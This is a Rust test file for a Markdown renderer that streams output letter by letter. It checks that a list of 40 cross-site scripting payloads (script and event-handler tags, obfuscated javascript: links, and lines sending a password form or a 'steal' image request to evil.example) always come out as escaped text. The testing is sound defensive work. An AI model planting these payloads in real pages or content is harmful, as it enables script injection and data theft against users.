//! Hostile and ordinary texts, whole and cut at every letter.

use super::{render, split_stable};

const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>@import url(//evil.example)</style>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/ \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](<https://a.example/'onclick='alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/steal?q=secret)",
    "![x\"onerror=alert(1) y=\"](https://a.example/p.png)",
    "[a]\n\n[a]: javascript:alert(1)",
    "```\"><img/onerror=alert(1)>\ncode</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
];

const ORDINARY: [&str; 12] = [
    "# Title\n\nA *paragraph* with **words**\nand `code`.\n\n## More\n\nText\n",
    "- a\n* b\n+ c\n\n- d\n",
    "- a\n*b*\n\nnext\n",
    "1. one\n2. two\n   - inner\n\n   still two\n\n3. three\n\nafter\n",
    "Intro\n\n```rust\nfn main() {}\n\n// <b>\n```\n\nOutro\n",
    "~~~\nnever closed\n\n# not a title\n",
    "para\n\n    indented\n\n    more\n\npara\n",
    "Setext\n======\n\ntext\n---\n\nlast",
    "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n> quote\nlazy\n\n---\n\nend",
    "<div>\n\n<b>x</b>\n\ntext\n",
    "Grüße, 世界 🙂\n\nnoch ein Absatz — ja\n\nEnde",
    "one\r\n\r\ntwo\r\n\r\n- x\r\n- y\r\n",
];

/// What a reader gets who sees the text grow letter by letter.
fn streamed(text: &str) -> String {
    let (mut html, mut from) = (String::new(), 0);
    for end in text.char_indices().map(|(at, letter)| at + letter.len_utf8()) {
        let stable = split_stable(&text[from..end]);
        html.push_str(&render(&text[from..from + stable]));
        from += stable;
    }
    html + &render(&text[from..])
}

/// Every tag of the output is one of ours with attributes of ours; in between there is only escaped text.
fn assert_harmless(html: &str, source: &str) {
    const TAGS: [&str; 27] = [
        "p",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "ol",
        "ul",
        "li",
        "em",
        "strong",
        "del",
        "a",
        "code",
        "pre",
        "div",
        "span",
        "button",
        "br",
        "hr",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "ol start",
    ];
    for piece in html.split('<').skip(1) {
        let (tag, text) =
            piece.split_once('>').unwrap_or_else(|| panic!("open tag in {html:?} from {source:?}"));
        assert!(!text.contains('>'), "loose bracket in {html:?} from {source:?}");
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(TAGS.contains(&name), "tag {name} in {html:?} from {source:?}");
        for (at, part) in tag.split('"').enumerate().filter(|(at, _)| at % 2 == 0) {
            let attribute = part.rsplit(' ').next().unwrap().trim_end_matches('=');
            let known =
                ["href", "target", "rel", "class", "tabindex", "type", "start", "data-copy", "aria-live", ""]
                    .contains(&attribute);
            assert!(known || at == 0, "attribute {attribute} in {html:?} from {source:?}");
        }
        if let Some(address) = tag.split("href=\"").nth(1) {
            let safe = ["https://", "http://", "mailto:"].iter().any(|scheme| address.starts_with(scheme));
            assert!(safe, "address {address} from {source:?}");
        }
        assert!(!tag.contains("src="), "remote content in {html:?}");
    }
}

#[test]
fn hostile_text_stays_text_wherever_it_is_cut() {
    for source in HOSTILE {
        for (cut, _) in source.char_indices().chain([(source.len(), ' ')]) {
            for frame in ["", "words\n\n", "- ", "> ", "```\n", "*"] {
                let text = format!("{frame}{}", &source[..cut]);
                assert_harmless(&render(&text), &text);
                let rest = &source[cut..];
                assert_harmless(&render(rest), rest);
            }
        }
        assert_harmless(&streamed(source), source);
    }
}

#[test]
fn a_growing_text_ends_as_if_rendered_at_once() {
    for source in ORDINARY.into_iter().chain(HOSTILE.into_iter().filter(|text| !text.contains("]:"))) {
        assert_eq!(streamed(source), render(source), "{source:?}");
    }
}

#[test]
fn all_pairs_of_texts_grow_alike() {
    for first in ORDINARY {
        for second in ORDINARY {
            for between in ["", "\n", "\n\n"] {
                let source = format!("{first}{between}{second}");
                assert_eq!(streamed(&source), render(&source), "{source:?}");
            }
        }
    }
}

#[test]
fn only_the_last_block_is_open() {
    assert_eq!(split_stable("one\n\ntwo\n\nthr"), "one\n\n".len());
    assert_eq!(split_stable("one\n\ntwo\n\nthree\n"), "one\n\ntwo\n\n".len());
    assert_eq!(split_stable("```\na\n\nb\n\nc\n"), 0);
}

#[test]
fn links_leave_safely_and_pictures_are_only_named() {
    let link =
        "<a href=\"https://a.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">";
    assert_eq!(render("[x](https://a.example/?a=1&b=2)"), format!("<p>{link}x</a></p>"));
    assert_eq!(render("![cat](https://a.example/?a=1&b=2)"), format!("<p>{link}Picture: cat</a></p>"));
    assert_eq!(render("[x](/receipts/1)"), "<p>x</p>");
}

#[test]
fn code_has_its_language_and_a_button() {
    let html = render("```rust\na < b\n```");
    assert!(html.contains("<span>rust</span><button") && html.contains("a &lt; b"), "{html}");
}
